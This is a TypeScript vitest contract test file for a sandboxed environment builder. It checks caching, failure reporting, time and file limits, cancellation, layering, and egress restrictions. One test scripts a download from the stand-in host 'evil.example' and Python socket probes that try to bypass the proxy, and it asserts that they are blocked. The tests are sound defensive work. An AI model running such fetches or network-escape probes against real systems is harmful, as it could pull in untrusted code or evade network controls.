import { readFileSync, mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { createEgress } from "../../src/adapters/egress/egress.ts";
import type { EnvironmentPlan, SetupStep } from "../../src/domain/environment.ts";
import { RepairError } from "../../src/domain/errors.ts";
import type {
  BuiltEnvironment,
  EnvironmentBuilder,
  EnvironmentRequest,
} from "../../src/ports/environment-builder.ts";
import type { Egress } from "../../src/ports/egress.ts";
import type { Sandbox } from "../../src/ports/sandbox.ts";
import { createSilentLogger } from "../fakes/silent-logger.ts";
import { never, outputOf, someLimits, treeOf } from "./sandbox-subject.ts";

export type MakeEnvironments = (parts: { readonly egress: Egress; readonly directory: string }) => {
  readonly environments: EnvironmentBuilder;
  /** Opens sessions in what was built. */
  readonly sandbox: Sandbox;
  /** Names of what a finished build left on the machine besides the environment. */
  readonly leftovers: () => readonly string[];
};

/** A package index on this machine, which steps know as `index.corp`; counts what it is asked for. */
async function packageIndex() {
  const asked: string[] = [];
  const server = createServer((request, reply) => {
    asked.push(request.url ?? "");
    reply.end("#!/bin/sh\necho installed\n");
  });
  server.listen(0);
  await once(server, "listening");
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  return { asked, port, url: `http://index.corp:${port}` };
}

export async function setUp<M extends ReturnType<MakeEnvironments>>(
  make: (parts: { readonly egress: Egress; readonly directory: string }) => M,
) {
  const index = await packageIndex();
  const directory = mkdtempSync(join(tmpdir(), "copatcher-environments-"));
  onTestFinished(() => rmSync(directory, { recursive: true, force: true }));
  const egress = createEgress({
    hosts: [],
    privateHosts: [`index.corp:${index.port}`],
    upstream: null,
    logger: createSilentLogger(),
    resolve: () => Promise.resolve(["127.0.0.1"]),
  });
  return { index, ...make({ egress, directory }) };
}

export const plan = (steps: readonly SetupStep[], more: Partial<EnvironmentPlan> = {}): EnvironmentPlan => ({
  source: "wanted.txt",
  inputs: ["wanted.txt"],
  blobs: [{ path: "wanted.txt", blob: "1".repeat(40) }],
  steps,
  activate: 'PATH="$COPATCHER_ENV/bin:$PATH"\n',
  base: { kind: "image", image: null },
  ...more,
});

export const request = (
  steps: readonly SetupStep[],
  more: Partial<EnvironmentRequest> = {},
): EnvironmentRequest => ({
  label: "contract",
  plan: plan(steps),
  scope: "contract",
  tree: treeOf({ files: { "wanted.txt": "greet\n" } }),
  limits: { memoryMb: 512, stepMinutes: 2 },
  log: () => undefined,
  ...more,
});

export const download = (url: string, to: string): string =>
  `python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(*sys.argv[1:])' '${url}' "${to}"`;

const install = (url: string): SetupStep => ({
  name: "install wanted.txt",
  script: `read -r name <wanted.txt; mkdir -p "$COPATCHER_ENV/bin"
    ${download(`${url}/greet`, "$COPATCHER_ENV/bin/$name")} && chmod 700 "$COPATCHER_ENV/bin/$name"`,
});

export const failure = async (build: Promise<unknown>): Promise<RepairError> => {
  const error: unknown = await build.then(
    () => null,
    (thrown: unknown) => thrown,
  );
  if (error instanceof RepairError) return error;
  throw new Error(`no RepairError but ${String(error)}`);
};

/** What every builder of environments owes; `make` gives a fresh installation. */
export function environmentBuilderContract(name: string, make: MakeEnvironments): void {
  const run = async (sandbox: Sandbox, { reference }: BuiltEnvironment, script: string): Promise<string> => {
    const session = await sandbox.open(
      {
        label: "contract",
        environment: reference,
        warmUp: null,
        tree: treeOf({ files: { "wanted.txt": "greet\n" } }),
        limits: someLimits,
      },
      never(),
    );
    try {
      return await outputOf(session, plan([]).activate + script);
    } finally {
      await session.close();
    }
  };

  describe(`${name}: environments`, () => {
    test("builds once, keeps what the steps left, and shows it read-only", async () => {
      const { environments, sandbox, index, leftovers } = await setUp(make);
      let log = "";
      const asked = request([install(index.url)], { log: (text) => (log += text) });

      const both = await Promise.all([
        environments.build(asked, never()),
        environments.build(asked, never()),
      ]);
      const again = await environments.build(asked, never());

      expect(both.map(({ cached }) => cached)).toEqual(expect.arrayContaining([false, true]));
      expect(again).toMatchObject({ cached: true, key: both[0].key, reference: both[0].reference });
      expect(index.asked).toEqual(["/greet"]);
      expect(log).toContain("[copatcher] step 1/1: install wanted.txt\n");
      expect(readFileSync(again.logFile ?? "", "utf8")).toBe(log);
      const script = 'greet; (: >"$COPATCHER_ENV/x") 2>/dev/null && echo written || echo read-only';
      expect(await run(sandbox, again, script)).toBe("installed\nread-only\n");
      expect(leftovers()).toEqual([]);
    });

    test("says which step failed, how, and with which last lines, and tries again next time", async () => {
      const { environments, leftovers } = await setUp(make);
      let builds = 0;
      const asked = request(
        [
          { name: "first", script: "echo fine" },
          { name: "second", script: "printf 'broken \\033[31mred\\007\\n' >&2; exit 3" },
          { name: "third", script: "echo never" },
        ],
        { log: (text) => (builds += text.includes("step 1/3") ? 1 : 0) },
      );

      const error = await failure(environments.build(asked, never()));
      await failure(environments.build(asked, never()));

      expect(error.code).toBe("environment-failed");
      expect(error.message).toBe("wanted.txt: second: exit 3");
      expect(error.data).toMatchObject({ step: "second", status: "exit 3" });
      expect(error.data["tail"]).toMatch(/step 2\/3: second\nbroken red\n/);
      expect(error.data["tail"]).not.toContain("never");
      expect(readFileSync(String(error.data["logFile"]), "utf8")).toContain("broken red\n");
      expect(builds).toBe(2);
      expect(leftovers()).toEqual([]);
    });

    test("stops a step at its time limit", async () => {
      const { environments, leftovers } = await setUp(make);
      const asked = request([{ name: "slow", script: "sleep 600 & sleep 600" }], {
        limits: { memoryMb: 512, stepMinutes: 0.02 },
      });

      expect((await failure(environments.build(asked, never()))).data).toMatchObject({
        step: "slow",
        status: "timed out after 1.2 s",
      });
      expect(leftovers()).toEqual([]);
    });

    test("keeps no environment with more files than are allowed, and names the setting", async () => {
      const { environments, leftovers } = await setUp(make);
      const program = `import os
for n in range(3500): open(os.environ["COPATCHER_ENV"] + f"/{n}", "w").close()`;
      const steps = [{ name: "many", script: `python3 -c '${program}'` }];

      expect((await failure(environments.build(request(steps), never()))).data).toMatchObject({
        step: "many",
        status: "made more than the 3000 files of COPATCHER_SETUP_FILES",
      });
      expect(leftovers()).toEqual([]);
    });

    test("stops when it is cancelled", async () => {
      const { environments, leftovers } = await setUp(make);
      const stop = new AbortController();
      const asked = request([{ name: "slow", script: "echo begun; sleep 600" }], {
        log: (text) => {
          if (text.includes("begun")) stop.abort();
        },
      });

      expect((await failure(environments.build(asked, stop.signal))).code).toBe("cancelled");
      expect(leftovers()).toEqual([]);
    });

    test("lets steps reach listed hosts only, and says which one was not", async () => {
      const { environments, index } = await setUp(make);
      const own = Object.values(networkInterfaces()).flatMap((addresses) =>
        (addresses ?? []).filter(({ family }) => family === "IPv4").map(({ address }) => address),
      );
      const direct = `import socket
for host, port in [(host, ${index.port}) for host in "${own.join(" ")}".split()] + [("192.0.2.1", 80)]:
    try:
        socket.create_connection((host, port), 3)
        print("reached", host)
    except OSError:
        print("kept from", host)
try:
    socket.getaddrinfo("example.com", 80)
    print("resolved")
except OSError:
    print("no names")
`;
      const asked = request([
        {
          name: "plain",
          script: `http_proxy=http://127.0.0.1:3128 ${download(`${index.url}/plain`, "/tmp/x")}`,
        },
        { name: "direct", script: `python3 -c '${direct}'` },
        { name: "fetch", script: download("http://evil.example/x", "/tmp/x") },
      ]);

      const error = await failure(environments.build(asked, never()));

      expect(error.message).toContain(
        "fetch: exit 1 (blocked: evil.example is not on COPATCHER_SETUP_HOSTS)",
      );
      const tail = String(error.data["tail"]);
      expect(tail).toContain("[copatcher] blocked: evil.example is not on COPATCHER_SETUP_HOSTS");
      expect(readFileSync(String(error.data["logFile"]), "utf8")).toContain(
        `${[...own, "192.0.2.1"].map((host) => `kept from ${host}\n`).join("")}no names\n`,
      );
      // programs that know a proxy but no credential are served too
      expect(index.asked).toEqual(["/plain"]);
    });

    test("serves a package manager that opens a connection per package at once", async () => {
      const { environments, index } = await setUp(make);
      const flood = `import socket
doors = [socket.create_connection(("127.0.0.1", 3128), 60) for _ in range(400)]
for door in doors: door.sendall(b"GET ${index.url}/x HTTP/1.1\\r\\nHost: index.corp\\r\\n\\r\\n")
print(sum(door.recv(65536).startswith(b"HTTP/1.1 200") for door in doors), "answered")
`;
      const asked = request([{ name: "flood", script: `python3 -c '${flood}'` }]);

      const { logFile } = await environments.build(asked, never());

      expect(readFileSync(String(logFile), "utf8")).toContain("400 answered\n");
    });

    test("lays a candidate's files over the base and repeats the steps without network", async () => {
      const { environments, sandbox, index, leftovers } = await setUp(make);
      const steps = [
        { name: "copy", script: 'mkdir -p "$COPATCHER_ENV" && cp wanted.txt "$COPATCHER_ENV/installed"' },
        {
          name: "fetch",
          script: `${download(index.url, "/tmp/x")} || echo "no network" >>"$COPATCHER_ENV/installed"`,
        },
      ];
      const asked = request(steps);
      const base = await environments.build(asked, never());

      const files = [{ path: "wanted.txt", content: "other\n" }];
      const layer = await environments.layer(base, asked, files, never());

      expect(layer.reference).not.toBe(base.reference);
      const script = 'cat "$COPATCHER_ENV/installed"';
      expect(await run(sandbox, layer, script)).toBe("other\nno network\n");
      expect(await run(sandbox, base, script)).toBe("greet\n");
      await environments.discard(layer);
      await expect(run(sandbox, layer, "true")).rejects.toMatchObject({ code: "sandbox-image-missing" });
      expect(leftovers()).toEqual([]);
    });

    test("needs nothing built for a plan without steps on the default", async () => {
      const { environments } = await setUp(make);

      expect(await environments.build(request([]), never())).toMatchObject({
        reference: null,
        logFile: null,
      });
    });
  });
}
